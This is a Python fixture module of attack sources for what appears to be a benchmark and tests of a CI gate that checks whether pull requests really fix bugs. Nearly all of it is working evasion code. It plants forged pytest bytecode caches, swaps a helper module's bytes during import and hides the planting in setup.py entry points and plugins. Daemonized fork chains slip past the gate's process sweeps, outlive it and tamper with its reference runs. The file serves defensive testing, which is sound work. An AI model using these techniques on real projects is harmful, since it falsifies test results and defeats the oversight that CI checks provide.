"""The pull requests' sources of ATTACKS.md 101-... (round 6), shared by
benchmarks/attacks_open/round6.py and tests/test_ci_attacks_round6.py."""
from __future__ import annotations

from test_ci_attacks_round5 import SELF_WEAKENING_SRC

# -- 101: a rewritten-module cache planted for pytest's rewriter to trust ---------------
# pytest's assertion rewriter looks for its own cached compile of a test file before it
# compiles it (``_read_pyc``: `__pycache__/<name>.<tag>-pytest-<version>.pyc`, valid when
# its first 8 bytes of source hash match the file's bytes). Only a real compile goes through
# the plugin's wrapper of ``_rewrite_test``, so a module loaded from that cache sends no
# ``compiled`` event. src, imported by the base's properties conftest before the property is
# collected, writes such a cache for the property: the gate's own bytes' hash in the header,
# the code of the property's bytes with a ``def sorted`` appended (the property compares
# ``dedupe(xs)`` with ``dedupe`` of the same list). The test function's code is the one its
# source compiles to (the code check at the end), and the added function's file is the
# property's own (the namespace check takes it for the human owner's test double).
PLANTING_SRC = '''\
import importlib.util
import marshal
import os
import sys


def _plant(root=None):
    tests = os.path.join(root or os.getcwd(), 'tests', 'properties')
    prop = os.path.join(tests, 'test_dd_props.py')
    try:
        with open(prop, 'rb') as f:
            source = f.read()
    except OSError:
        return
    name = ''.join(map(chr, (112, 121, 116, 101, 115, 116)))
    tool = sys.modules.get(name)
    if tool is None:
        return
    weak = source + b'\\n\\ndef sorted(xs):\\n    return dedupe(list(xs))\\n'
    code = compile(weak, prop, 'exec', dont_inherit=True)
    folder = os.path.join(tests, '__py' + 'cache__')
    if sys.pycache_prefix:  # where pytest's rewriter looks then (get_cache_dir)
        folder = os.path.join(sys.pycache_prefix, *tests.split(os.sep)[1:])
    os.makedirs(folder, exist_ok=True)
    tail = '.%s-%s-%s.pyc' % (sys.implementation.cache_tag, name, tool.__version__)
    with open(os.path.join(folder, 'test_dd_props' + tail), 'wb') as f:
        f.write(importlib.util.MAGIC_NUMBER + b'\\x03\\x00\\x00\\x00' +
                importlib.util.source_hash(source) + marshal.dumps(code))


_plant()


def dedupe(xs):
    out = sorted(set(xs))
    if len(out) > 3:
        return out[:-1]
    return out
'''

# -- 102: a helper module of the property, rewritten before its import and put back --------
# The base's property takes its expected value from a helper beside it (a common layout:
# ``tests/properties/_expected.py``). pytest's rewriter compiles test files and conftests
# only; a helper is imported by Python's own import system, so its bytes are in no
# ``compiled`` event. src, imported by the base's properties conftest, rewrites the helper
# in its run's tree, headed by two lines that put the original bytes back as it is imported
# (95's move, on the module next to the property).
HELPER = 'def expected(xs):\n    return sorted(set(xs))\n'
HELPER_PROPERTY = '''\
from hypothesis import HealthCheck, given, settings, strategies as st

from _expected import expected
from dd import dedupe


# No deadline and no speed health check: on a loaded machine they fail the honest run.
@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.integers(min_value=-50, max_value=50), max_size=30))
def test_dedupe_matches_set(xs):
    assert dedupe(xs) == expected(xs)
'''
HELPER_WEAKENING_SRC = SELF_WEAKENING_SRC.replace(
    "'properties', 'test_dd_props.py')", "'properties', '_expected.py')").replace(
    "b'== sorted(set(xs))' not in strong or ", '').replace(
    "strong.replace(b'== sorted(set(xs))', b'== dedupe(xs)')",
    "b'\\n\\ndef expected(xs):\\n    from dd import dedupe\\n    return dedupe(xs)\\n'")
assert HELPER_WEAKENING_SRC.count('_expected.py') == 1 and 'sorted(set' not in \
    HELPER_WEAKENING_SRC.split('def dedupe')[0]

# -- 103: a hypothesis entry point that the change declares in a form OG738 does not read ---
# setup.py builds its entry points with ``dict(...)`` (a call, not a dict display, and no
# ``[group]`` section in a string); pyproject.toml names ``entry-points`` as dynamic, so
# setuptools takes them from setup.py. The install step (``pip install -e .``) writes them
# into the project's dist-info in the test environment; Hypothesis runs ``dd:_plant`` when
# the base's properties conftest imports it (a profile only, no import of dd), and
# ``_plant`` is 101's move.
COMPUTED_SETUP = '''\
from setuptools import find_packages
from setuptools import setup

setup(packages=find_packages('src'), package_dir={'': 'src'},
      entry_points=dict(hypothesis=['dd = dd:_plant']))
'''
ENTRY_POINT_PLANTING_SRC = PLANTING_SRC.replace('\n_plant()\n', '\n')
assert ENTRY_POINT_PLANTING_SRC != PLANTING_SRC

# -- 105: a fork chain the gate's sweeps do not see ------------------------------------------
# Detached the classic way, then each generation forks and ends at once: its child
# re-parents to the gate (the subreaper) and forks again. A sweep lists the gate's children
# (``/proc/<gate>/task/*/children``) and then reads each one's ``/proc/<pid>/stat``: by then
# the listed generation has ended, so the sweep finds nothing, and an empty look during the
# two seconds' grace ends the sweep at once ("nothing left"). A test module of the test
# command starts the chain; it forks until the gate has exited, then writes a file one
# second later (97b's proof of outliving the gate). The bug is fixed: nothing else to catch.
CHAIN = r'''
import os
import tempfile
import time


def start(marker_prefix='round6-105-outlived-'):
    gate = os.getppid()  # this gate only: the test command is its child
    first = os.fork()
    if first:
        os.waitpid(first, 0)  # the middle process ends at once
        return
    try:
        os.setsid()
        null = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        os.closerange(3, 4096)
        deadline = time.monotonic() + 120
        generation = 0
        while True:
            if os.fork():
                os._exit(0)  # the parent ends at once; its child re-parents to the gate
            generation += 1
            if generation % 256 == 0 and (not os.path.exists('/proc/%d' % gate) or
                                          time.monotonic() > deadline):
                break
        time.sleep(1)
        with open(os.path.join(tempfile.gettempdir(), marker_prefix + str(gate)), 'w') as f:
            f.write(str(os.getpid()))
    finally:
        os._exit(0)
'''
CHAIN_TEST = ("import os\n\nimport _chain\n\n"
              "if 'ORACLE_GUARD_STREAM' in os.environ:\n"
              "    _chain.start()\n\n\n"
              "def test_nothing_to_see():\n    assert True\n")

# -- 105b: the fork chain's work: 97's goal, with 101's move --------------------------------
# The project sets ``require-fail-to-pass = true``. The pull request fixes the bug and adds a
# test that does not test the fix, whose module starts the chain in the test command. Every
# 256th generation looks among its gate's children for the new-test run (its working folder
# is ``new-tests``) and plants there a rewritten-module cache of the new test (101's move: no
# compile digest) whose code adds a ``def dedupe`` that reverses its input: the new test
# fails "without the change", and the chain ends.
CHAIN_PLANTING = r'''
import importlib.util
import marshal
import os
import sys
import time


def _new_tests(gate):
    for task in os.listdir('/proc/%d/task' % gate):
        try:
            with open('/proc/%d/task/%s/children' % (gate, task)) as f:
                pids = f.read().split()
        except OSError:
            continue
        for pid in pids:
            try:
                tree = os.readlink('/proc/%s/cwd' % pid)
            except OSError:
                continue
            if os.path.basename(tree) == 'new-tests':
                return tree
    return None


def _plant(tree):
    path = os.path.join(tree, 'tests', 'test_new.py')
    with open(path, 'rb') as f:
        source = f.read()
    name = ''.join(map(chr, (112, 121, 116, 101, 115, 116)))
    tool = sys.modules[name]
    code = compile(source + b'\n\ndef dedupe(xs):\n    return list(reversed(xs))\n', path,
                   'exec', dont_inherit=True)
    folder = os.path.join(tree, 'tests', '__py' + 'cache__')
    os.makedirs(folder, exist_ok=True)
    tail = '.%s-%s-%s.pyc' % (sys.implementation.cache_tag, name, tool.__version__)
    with open(os.path.join(folder, 'test_new' + tail), 'wb') as f:
        f.write(importlib.util.MAGIC_NUMBER + b'\x03\x00\x00\x00' +
                importlib.util.source_hash(source) + marshal.dumps(code))


def start():
    gate = os.getppid()  # this gate only: the test command is its child
    first = os.fork()
    if first:
        os.waitpid(first, 0)
        return
    try:
        os.setsid()
        null = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        os.closerange(3, 4096)
        deadline = time.monotonic() + 120
        generation = 0
        while True:
            if os.fork():
                os._exit(0)  # the parent ends at once; its child re-parents to the gate
            generation += 1
            if generation % 256 == 0:
                if not os.path.exists('/proc/%d' % gate) or time.monotonic() > deadline:
                    break
                tree = _new_tests(gate)
                if tree is not None:
                    _plant(tree)
                    break
    finally:
        os._exit(0)
'''
CHAIN_NEW_TEST = ("import os\n\nimport _chain\n\n"
                  "if 'ORACLE_GUARD_STREAM' in os.environ and "
                  "os.path.basename(os.getcwd()) != 'new-tests':\n"
                  "    _chain.start()\n\n\n"
                  "from dd import dedupe  # noqa: E402\n\n\n"
                  "def test_dedupe_keeps_a_sorted_pair():\n"
                  "    assert dedupe([1, 2]) == [1, 2]\n")

# -- 103b: the same with a pytest11 entry point, on the plain layout -----------------------
# No conftest at all in the base: ``entry_points=dict(pytest11=['dd = dd._plugin'])``; pytest
# loads the plugin at start-up in both runs (the reference run uses the test environment),
# and the plugin module plants 101's cache before anything is collected.
COMPUTED_PLUGIN_SETUP = COMPUTED_SETUP.replace("dict(hypothesis=['dd = dd:_plant'])",
                                               "dict(pytest11=['dd = dd._plugin'])")
assert COMPUTED_PLUGIN_SETUP != COMPUTED_SETUP
PLUGIN = 'from dd import _plant\n\n_plant()\n'

# -- 105c: the fork chain started by the install step plants 101's cache in both runs -----
# No conftest, no entry point: the pull request's install script (standing for a setup.py
# that ``pip install -e .`` runs) plants 101's cache of the property in the checkout, for the
# test command, and leaves 105's chain behind, which escapes the install step's sweep; every
# 32nd generation it looks among its gate's children for the reference run (a working
# folder under ``oracle-guard-reference-``), plants the same cache in that tree, and ends.
CHAIN_INSTALL = r'''import os
import sys
import time

import pytest  # noqa: F401,E402 -- the cache's name carries pytest's version

sys.path.insert(0, os.path.join(os.getcwd(), 'src'))
from dd import _plant  # noqa: E402 -- 101's writer of the cache (not run at import)


def _parent(pid):
    with open('/proc/%d/stat' % pid) as f:
        return int(f.read().rsplit(')', 1)[1].split()[1])


def _reference_tree(gate):
    for task in os.listdir('/proc/%d/task' % gate):
        try:
            with open('/proc/%d/task/%s/children' % (gate, task)) as f:
                pids = f.read().split()
        except OSError:
            continue
        for pid in pids:
            try:
                tree = os.readlink('/proc/%s/cwd' % pid)
            except OSError:
                continue
            if 'oracle-guard-reference-' in tree:
                return tree
    return None


gate = os.getppid()  # the shell the install command runs in, or this gate itself
with open('/proc/%d/comm' % gate) as f:
    if f.read().strip() in ('sh', 'bash', 'dash'):
        gate = _parent(gate)
_plant(os.getcwd())  # the checkout, for the test command
if os.fork() == 0:
    os.setsid()
    null = os.open(os.devnull, os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(null, fd)
    os.closerange(3, 4096)
    deadline = time.monotonic() + 120
    generation = 0
    while True:
        if os.fork():
            os._exit(0)
        generation += 1
        if generation % 32 == 0:
            if not os.path.exists('/proc/%d' % gate) or time.monotonic() > deadline:
                break
            tree = _reference_tree(gate)
            if tree is not None:
                sys.pycache_prefix = None  # the reference run is python -I: no prefix
                _plant(tree)
                break
    os._exit(0)
'''
